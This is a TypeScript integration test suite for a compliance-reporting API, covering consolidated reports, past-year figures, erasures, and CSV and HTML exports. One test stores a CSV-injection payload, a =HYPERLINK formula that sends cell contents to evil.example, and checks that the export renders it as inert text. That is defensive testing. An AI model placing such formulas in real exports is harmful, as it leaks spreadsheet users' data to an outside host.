import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { addDays, reportingYearOf, reportingYearRange, toIsoDate } from '../../domain/shared/dates';
import { buildReport, previousYearOf } from '../../domain/reports/report';
import { summarize } from '../../domain/reports/summary';
import { CSV_COLUMNS } from '../../domain/reports/formats';
import { csvCell } from '../../domain/shared/csv';
import { settingsOf } from '../../domain/partnerships/partnership';
import { tenantDynamo } from '../../functions/data/client';
import { reportRepository } from '../../functions/data/report-repository';
import { systemDeps } from '../../functions/shared/deps';
import { TestApi } from '../support/api';
import { countRequests } from '../support/dynamo-counter';
import { seedPartnership, type PartnershipFixture } from '../support/fixtures';
import { useStreamConsumer } from '../support/stream';
import { useFreshTable } from '../support/table';

useFreshTable({ stream: true });
const stream = useStreamConsumer();

const TODAY = toIsoDate(new Date());
const YEAR = reportingYearOf(TODAY);
let api: TestApi;
let p: PartnershipFixture;

/** The report recomputed from raw records, with no summaries: what the maintained one must equal. */
async function naiveReport(tenantId: string, year: string) {
  const d = systemDeps();
  const reports = reportRepository(d.table);
  const authorities = await d.authorities.list(tenantId);
  const current = new Map();
  const years = new Map<string, Map<string, any>>();
  for (const a of authorities) {
    const records = await reports.recordsOf(tenantId, a.id);
    const s = summarize(records!);
    current.set(a.id, s.current);
    for (const y of s.years) {
      if (!years.has(y.year)) years.set(y.year, new Map());
      years.get(y.year)!.set(a.id, y);
    }
  }
  const partnership = await d.partnerships.get(tenantId);
  return buildReport({ year, today: TODAY, now: new Date(), coverageTarget: settingsOf(partnership).coverageTarget, authorities, current, years });
}

const withoutTime = ({ generatedAt: _g, partnershipName: _p, ...rest }: any) => rest;

/** The training figures of a report row and of GET …/training-summary for the same year and date. */
async function trainingAgrees(token: string, authorityId: string, year: string) {
  const report = await api.request('GET', `/reports/consolidated?year=${year}`, { token });
  const summary = await api.request('GET', `/authorities/${authorityId}/training-summary?year=${year}`, { token });
  expect(report.status, report.text).toBe(200);
  expect(summary.status, summary.text).toBe(200);
  const row = report.body.rows.find((r: any) => r.authorityId === authorityId).training;
  const s = summary.body;
  expect(s.asAt, `${authorityId} ${year} asAt`).toBe(report.body.asAt);
  expect(
    { coverage: s.coverage.total.coverage, covered: s.coverage.total.covered, headcount: s.coverage.total.headcount, completions: s.completions, peopleTrained: s.peopleTrained, sessions: s.sessions.count, attendees: s.sessions.attendees, feedbackShare: s.sessions.feedbackShare, refreshersOverdue: s.refreshersOverdue },
    `${authorityId} ${year}`,
  ).toEqual(row);
  return row;
}

/** A small deterministic random source, so a failing case can be replayed. */
function rng(seed: number) {
  let s = seed;
  return () => ((s = (s * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
}

beforeAll(async () => {
  api = await TestApi.create();
  p = await seedPartnership(api, 'reported');
});

describe('the consolidated report', () => {
  it('equals a recomputation from raw records after random writes, updates, deletions and erasures', { timeout: 120_000 }, async () => {
    const rand = rng(20251122);
    const pick = <T>(xs: readonly T[]) => xs[Math.floor(rand() * xs.length)];
    const sg = p.tokens['steering-group'];
    const ids = [p.authorities.a, p.authorities.b];
    const lead = (a: string) => (a === p.authorities.a ? p.tokens['authority-lead@a'] : p.tokens['authority-lead@b']);
    const plan = { version: 0, roles: [{ id: 'staff', name: 'Staff', headcount: 12, requiredCourses: ['home-office-elearning'] }, { id: 'leads', name: 'Leads', headcount: 3, requiredCourses: ['wrap'], requiredLevel: 'specialist' }] };
    for (const a of ids) expect((await api.request('PUT', `/authorities/${a}/training-plan`, { token: lead(a), body: plan })).status).toBe(200);

    for (let round = 0; round < 4; round++) {
      for (let op = 0; op < 25; op++) {
        const a = pick(ids);
        const kind = pick(['completion', 'completion', 'completion', 'session', 'filter', 'sop', 'statement', 'obligation', 'erase']);
        const daysAgo = Math.floor(rand() * 5 * 365);
        if (kind === 'completion') {
          await api.request('POST', `/authorities/${a}/completions`, {
            token: lead(a),
            body: { staffRef: `P${Math.floor(rand() * 15)}`, courseId: pick(['home-office-elearning', 'wrap', 'channel-panel', 'induction']), completedOn: addDays(TODAY, -daysAgo), role: pick(['staff', 'leads']) },
          });
        } else if (kind === 'session') {
          const attendees = 5 + Math.floor(rand() * 30);
          const respondents = Math.floor(attendees * rand());
          await api.request('POST', `/authorities/${a}/sessions`, { token: lead(a), body: { date: addDays(TODAY, -daysAgo), courseId: 'wrap', provider: 'P', audience: 'staff', attendees, feedbackRespondents: respondents, feedbackGoodOrExcellent: Math.floor(respondents * rand()) } });
        } else if (kind === 'filter') {
          const reviewedOn = addDays(TODAY, -daysAgo);
          const year = reportingYearOf(reviewedOn);
          const existing = (await api.request('GET', `/authorities/${a}/it-filter-assurances`, { token: sg })).body.items.find((x: any) => x.year === year);
          await api.request('PUT', `/authorities/${a}/it-filter-assurances/${year}`, { token: lead(a), body: { reviewedOn, assuredBy: { name: 'N', role: 'R', organisation: 'O' }, product: 'P', ctiruListApplied: false, scope: ['corporate-network'], outcome: pick(['assured', 'partially-assured']), actions: 'x', version: existing?.version ?? 0 } });
        } else if (kind === 'sop') {
          const current = await api.request('GET', `/authorities/${a}/sop`, { token: sg });
          const next = addDays(TODAY, 200 - daysAgo);
          await api.request('PUT', `/authorities/${a}/sop`, { token: lead(a), body: { title: 'SOP', ownerName: 'O', ownerRole: 'R', sopVersion: `1.${round}`, implementationDate: addDays(next, -365), nextReviewDate: next, securityClassification: 'OFFICIAL', foiDisclosable: true, riskRating: 'low', equalityAnalysis: 'Low', version: current.status === 200 ? current.body.version : 0 } });
        } else if (kind === 'statement') {
          const year = pick([YEAR, previousYearOf(YEAR)]);
          const url = `/authorities/${a}/statements/${year}`;
          const current = await api.request('GET', url, { token: sg });
          if (current.status === 200 && current.body.status === 'submitted') {
            await api.request('POST', `${url}/review`, { token: sg, body: { outcome: pick(['accept', 'return']), comment: 'c', version: current.body.version } });
          } else if (current.status !== 200 || current.body.status === 'draft' || current.body.status === 'returned') {
            const questions = (current.status === 200 ? current.body.applicableQuestions : ['1.1']) as string[];
            const body = { ratings: Object.fromEntries(questions.map((q) => [q, { rating: pick(['developing', 'achieving']) }])), scores: { '1': 1 + Math.floor(rand() * 5) }, signOff: { name: 'L', role: 'R', date: TODAY, declaration: 'D' }, version: current.status === 200 ? current.body.version : 0 };
            const put = await api.request('PUT', url, { token: lead(a), body });
            if (put.status === 200 && rand() < 0.6 && current.status === 200) await api.request('POST', `${url}/submit`, { token: lead(a), body: { version: put.body.version } });
          }
        } else if (kind === 'obligation') {
          const list = await api.request('GET', `/authorities/${a}/sop/obligations`, { token: sg });
          if (list.status !== 200) continue;
          if (list.body.items.length && rand() < 0.4) {
            const o = pick(list.body.items as any[]);
            await api.request('DELETE', `/authorities/${a}/sop/obligations/${o.id}?version=${o.version}`, { token: lead(a) });
          } else {
            await api.request('POST', `/authorities/${a}/sop/obligations`, { token: lead(a), body: { section: 'training-programme', commitment: 'c', cadence: 'annual', ownerRole: 'r', status: pick(['not-yet-started', 'developing', 'achieving']) } });
          }
        } else {
          await api.request('POST', `/authorities/${a}/erasures`, { token: lead(a), body: { staffRef: `P${Math.floor(rand() * 15)}` } });
        }
      }
      await stream.settle();
      const served = await api.request('GET', `/reports/consolidated?year=${YEAR}`, { token: sg });
      expect(served.status, served.text).toBe(200);
      expect(withoutTime(served.body)).toEqual(withoutTime(await naiveReport('reported', YEAR)));
      // Past years too, and the training summary says the same as the report for every year and authority.
      for (const year of [previousYearOf(YEAR), previousYearOf(previousYearOf(YEAR))]) {
        const past = await api.request('GET', `/reports/consolidated?year=${year}`, { token: sg });
        expect(withoutTime(past.body)).toEqual(withoutTime(await naiveReport('reported', year)));
      }
      for (const year of [YEAR, previousYearOf(YEAR), previousYearOf(previousYearOf(YEAR))]) for (const a of ids) await trainingAgrees(sg, a, year);
    }
    const last = (await api.request('GET', `/reports/consolidated?year=${YEAR}`, { token: sg })).body;
    expect(last.totals.completions + last.previousTotals.completions).toBeGreaterThan(0);
    expect(last.rows).toHaveLength(2);
    // Each row's overdue items: its overdue refreshers, SOP review and IT-filter review; the total adds them up.
    for (const r of last.rows) expect(r.overdueItems).toBe(r.training.refreshersOverdue + (r.sop.reviewOverdue ? 1 : 0) + (r.itFilter.status === 'overdue' ? 1 : 0));
    expect(last.totals.overdueItems).toBe(last.rows.reduce((n: number, r: { overdueItems: number }) => n + r.overdueItems, 0));
  });

  it('shows a past year as it stood on 31 March: SOP version and review, the year’s IT-filter assurance, obligations, coverage and refreshers', { timeout: 120_000 }, async () => {
    const f = await seedPartnership(api, 'pastyear');
    const sg = f.tokens['steering-group'];
    const lead = f.tokens['authority-lead@a'];
    const a = `/authorities/${f.authorities.a}`;
    const PAST = previousYearOf(YEAR);
    const END = reportingYearRange(PAST).to;
    const ok = (res: { status: number; text: string }, status = 200) => expect(res.status, res.text).toBe(status);

    // The SOP: version 1.0, due for review before the end of last year; revised to 2.0 today.
    ok(await api.request('PUT', `${a}/sop`, { token: lead, body: { title: 'SOP', ownerName: 'O', ownerRole: 'R', sopVersion: '1.0', implementationDate: addDays(END, -400), nextReviewDate: addDays(END, -35), securityClassification: 'OFFICIAL', foiDisclosable: true, riskRating: 'low', equalityAnalysis: 'Low', version: 0 } }));
    ok(await api.request('POST', `${a}/sop/reviews`, { token: lead, body: { reviewedOn: TODAY, reviewer: 'R', outcome: 'revised', minuteRef: 'SG 1', newSopVersion: '2.0', version: 1 } }), 201);

    // IT filter: last year's assurance (partly assured), and this year's, reviewed today.
    const filter = (reviewedOn: string, outcome: string) => ({ reviewedOn, assuredBy: { name: 'N', role: 'R', organisation: 'O' }, product: 'P', ctiruListApplied: false, scope: ['corporate-network'], outcome, actions: 'x', version: 0 });
    ok(await api.request('PUT', `${a}/it-filter-assurances/${PAST}`, { token: lead, body: filter(addDays(END, -300), 'partially-assured') }));
    ok(await api.request('PUT', `${a}/it-filter-assurances/${YEAR}`, { token: lead, body: filter(TODAY, 'assured') }));

    // Obligations: one achieving by the end of last year and developing since; one achieving then and deleted since.
    const evidence = (o: any, status: string, evidencedOn: string) => api.request('PUT', `${a}/sop/obligations/${o.id}/evidence`, { token: lead, body: { status, evidence: { notes: 'n', links: [] }, evidencedOn, version: o.version } });
    const make = async () => (await api.request('POST', `${a}/sop/obligations`, { token: lead, body: { section: 'training-programme', commitment: 'c', cadence: 'annual', ownerRole: 'r' } })).body;
    const kept = (await evidence(await make(), 'achieving', addDays(END, -10))).body;
    ok(await evidence(kept, 'developing', TODAY));
    const gone = (await evidence(await make(), 'achieving', addDays(END, -5))).body;
    ok(await api.request('DELETE', `${a}/sop/obligations/${gone.id}?version=${gone.version}`, { token: lead }));

    // Training: S1's e-learning (24-month refresher) had lapsed by the end of last year and was renewed today;
    // S2 first trained the day after it ended.
    ok(await api.request('PUT', `${a}/training-plan`, { token: lead, body: { version: 0, roles: [{ id: 'staff', name: 'Staff', headcount: 2, requiredCourses: ['home-office-elearning'] }] } }));
    const complete = (staffRef: string, completedOn: string) => api.request('POST', `${a}/completions`, { token: lead, body: { staffRef, courseId: 'home-office-elearning', completedOn, role: 'staff' } });
    ok(await complete('S1', addDays(END, -800)), 201);
    ok(await complete('S1', TODAY), 201);
    ok(await complete('S2', addDays(END, 1)), 201);
    await stream.settle();

    const past = (await api.request('GET', `/reports/consolidated?year=${PAST}`, { token: sg })).body;
    const row = past.rows.find((r: any) => r.authorityId === f.authorities.a);
    expect(past.asAt).toBe(END);
    expect(past.partYear).toBe(false);
    expect(row.sop).toEqual({ present: true, sopVersion: '1.0', nextReviewDate: addDays(END, -35), reviewOverdue: true });
    expect(row.itFilter).toMatchObject({ lastReviewedOn: addDays(END, -300), outcome: 'partially-assured', yearAssurance: { reviewedOn: addDays(END, -300), outcome: 'partially-assured' } });
    expect(row.itFilter.status).not.toBe('missing');
    expect(row.obligations).toEqual({ notYetStarted: 0, developing: 0, achieving: 2 });
    expect(row.training).toMatchObject({ covered: 0, headcount: 2, refreshersOverdue: 1, completions: 0 });

    const now = (await api.request('GET', `/reports/consolidated?year=${YEAR}`, { token: sg })).body;
    const today = now.rows.find((r: any) => r.authorityId === f.authorities.a);
    expect([now.asAt, now.previousAsAt, now.partYear]).toEqual([TODAY, END, true]);
    expect(today.sop).toMatchObject({ sopVersion: '2.0', lastReviewedOn: TODAY, reviewOverdue: false });
    expect(today.itFilter).toMatchObject({ status: 'current', lastReviewedOn: TODAY, outcome: 'assured' });
    expect(today.obligations).toEqual({ notYetStarted: 0, developing: 1, achieving: 0 });
    expect(today.training).toMatchObject({ covered: 2, headcount: 2, refreshersOverdue: 0, completions: 2 });
    // Last year in the current report is the same as last year's own report.
    expect(now.previousTotals).toEqual(past.totals);

    // The training summary agrees with the report, for both years.
    await trainingAgrees(sg, f.authorities.a, PAST);
    await trainingAgrees(sg, f.authorities.a, YEAR);

    // asAt in every format.
    const csv = parse((await api.request('GET', `/reports/consolidated?year=${PAST}&format=csv`, { token: sg })).text.slice(1), { columns: true }) as Record<string, string>[];
    expect(csv.every((r) => r.as_at === END)).toBe(true);
    const html = (await api.request('GET', `/reports/consolidated?year=${PAST}&format=html`, { token: sg })).text;
    expect(html).toContain(`Figures as at ${new Date(`${END}T00:00:00Z`).toLocaleDateString('en-GB', { day: 'numeric', month: 'long', year: 'numeric', timeZone: 'UTC' })}`);
    const part = (await api.request('GET', `/reports/consolidated?format=html`, { token: sg })).text;
    expect(part).toContain('a part year, compared with the whole of');
  });

  it('every figure endpoint says the date its figures are taken at (asAt)', async () => {
    const sg = p.tokens['steering-group'];
    const a = p.authorities.a;
    for (const url of ['/reports/consolidated', `/authorities/${a}/training-summary`, '/training/coverage', '/sops', `/authorities/${a}/it-filter-assurances`]) {
      const res = await api.request('GET', url, { token: sg });
      expect(res.status, `${url} ${res.text}`).toBe(200);
      expect(res.body.asAt, url).toBe(TODAY);
    }
  });

  it('is served with at most 7 DynamoDB requests for a 60-authority partnership', { timeout: 120_000 }, async () => {
    const big = await seedPartnership(api, 'sixty');
    for (let i = 0; i < 58; i++) {
      const res = await api.request('POST', '/authorities', { token: big.tokens['steering-group'], body: { id: `a${i}`, name: `Authority ${i}`, sector: 'local-government', type: 'district-council' } });
      expect(res.status).toBe(201);
    }
    await api.request('POST', `/authorities/a1/completions`, { token: big.tokens['steering-group'], body: { staffRef: 'X', courseId: 'wrap', completedOn: TODAY } });
    await stream.settle();
    // The partnership's own client: the handler reads with its tenant credentials.
    const counter = countRequests(tenantDynamo(big.tenantId).doc);
    const res = await api.request('GET', '/reports/consolidated', { token: big.tokens['viewer@partnership'] });
    const requests = counter.total();
    counter.detach();
    expect(res.status).toBe(200);
    expect(requests).toBeGreaterThan(0);
    expect(res.body.rows).toHaveLength(60);
    expect(res.body.rows.find((r: any) => r.authorityId === 'a1').training.completions).toBe(1);
    // The partnership, its authorities, the summaries, the action plans, the year's actions, the assessment, the delivery figures.
    expect(requests).toBeLessThanOrEqual(7);
  });

  it('drops a year whose every record was erased', async () => {
    const solo = await seedPartnership(api, 'erased');
    const lastYearDay = addDays(TODAY, -366);
    const url = `/authorities/${solo.authorities.a}`;
    expect((await api.request('POST', `${url}/completions`, { token: solo.tokens['authority-lead@a'], body: { staffRef: 'Z9', courseId: 'wrap', completedOn: lastYearDay } })).status).toBe(201);
    await stream.settle();
    const year = reportingYearOf(lastYearDay);
    const before = (await api.request('GET', `/reports/consolidated?year=${year}`, { token: solo.tokens['steering-group'] })).body;
    expect(before.totals.completions).toBe(1);
    expect((await api.request('POST', `${url}/erasures`, { token: solo.tokens['authority-lead@a'], body: { staffRef: 'Z9' } })).status).toBe(200);
    await stream.settle();
    const after = (await api.request('GET', `/reports/consolidated?year=${year}`, { token: solo.tokens['steering-group'] })).body;
    expect(after.totals.completions).toBe(0);
    expect(after.totals.peopleTrained).toBe(0);
  });

  it('CSV parses back to the same figures as the JSON', async () => {
    const sg = p.tokens['steering-group'];
    const json = (await api.request('GET', `/reports/consolidated?year=${YEAR}`, { token: sg })).body;
    const csv = await api.request('GET', `/reports/consolidated?year=${YEAR}&format=csv`, { token: sg });
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.text.startsWith('\uFEFF')).toBe(true);
    expect(csv.text).toContain('\r\n');
    const rows = parse(csv.text.slice(1), { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0])).toEqual([...CSV_COLUMNS.map((c) => c.name), 'year', 'as_at']);
    for (const r of rows) expect([r.year, r.as_at]).toEqual([YEAR, json.asAt]);
    expect(rows).toHaveLength(json.rows.length);
    json.rows.forEach((row: any, i: number) => {
      for (const column of CSV_COLUMNS) {
        const v = column.value(row);
        expect(rows[i][column.name], `${row.authorityId} ${column.name}`).toBe(csvCell(v));
      }
    });
  });

  it('CSV cannot run formulas: an authority named =HYPERLINK(…) is written as text; shares are rounded to 4 decimals', async () => {
    const f = await seedPartnership(api, 'csvinjection');
    const sg = f.tokens['steering-group'];
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    expect((await api.request('PUT', `/authorities/${f.authorities.a}`, { token: sg, body: { name: evil, sector: 'local-government', type: 'district-council', version: 1 } })).status).toBe(200);
    const plan = { version: 0, roles: [{ id: 'staff', name: 'Staff', headcount: 3, requiredCourses: ['wrap'] }] };
    expect((await api.request('PUT', `/authorities/${f.authorities.a}/training-plan`, { token: sg, body: plan })).status).toBe(200);
    expect((await api.request('POST', `/authorities/${f.authorities.a}/completions`, { token: sg, body: { staffRef: 'S1', courseId: 'wrap', completedOn: TODAY, role: 'staff' } })).status).toBe(201);
    await stream.settle();
    const csv = await api.request('GET', '/reports/consolidated?format=csv', { token: sg });
    const rows = parse(csv.text.slice(1), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.authority_id === f.authorities.a)!;
    expect(row.authority).toBe(`'${evil}`);
    expect(row.training_coverage).toBe('0.3333');
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('HTML is a printable page with the heatmap, coverage bars, totals, year and time', async () => {
    const html = await api.request('GET', `/reports/consolidated?year=${YEAR}&format=html`, { token: p.tokens['viewer@partnership'] });
    expect(html.status).toBe(200);
    expect(html.headers['content-type']).toMatch(/^text\/html/);
    expect(html.text).toContain(`consolidated compliance report ${YEAR}`);
    expect(html.text).toContain('class="bar"');
    expect(html.text).toContain('Generated');
    expect(html.text).toContain('@page');
  });

  it('authority roles get 403, and a viewer of one authority sees only that authority', async () => {
    expect((await api.request('GET', '/reports/consolidated', { token: p.tokens['authority-lead@a'] })).status).toBe(403);
    const own = await api.request('GET', '/reports/consolidated', { token: p.tokens['viewer@a'] });
    expect(own.body.rows.map((r: any) => r.authorityId)).toEqual([p.authorities.a]);
  });
});
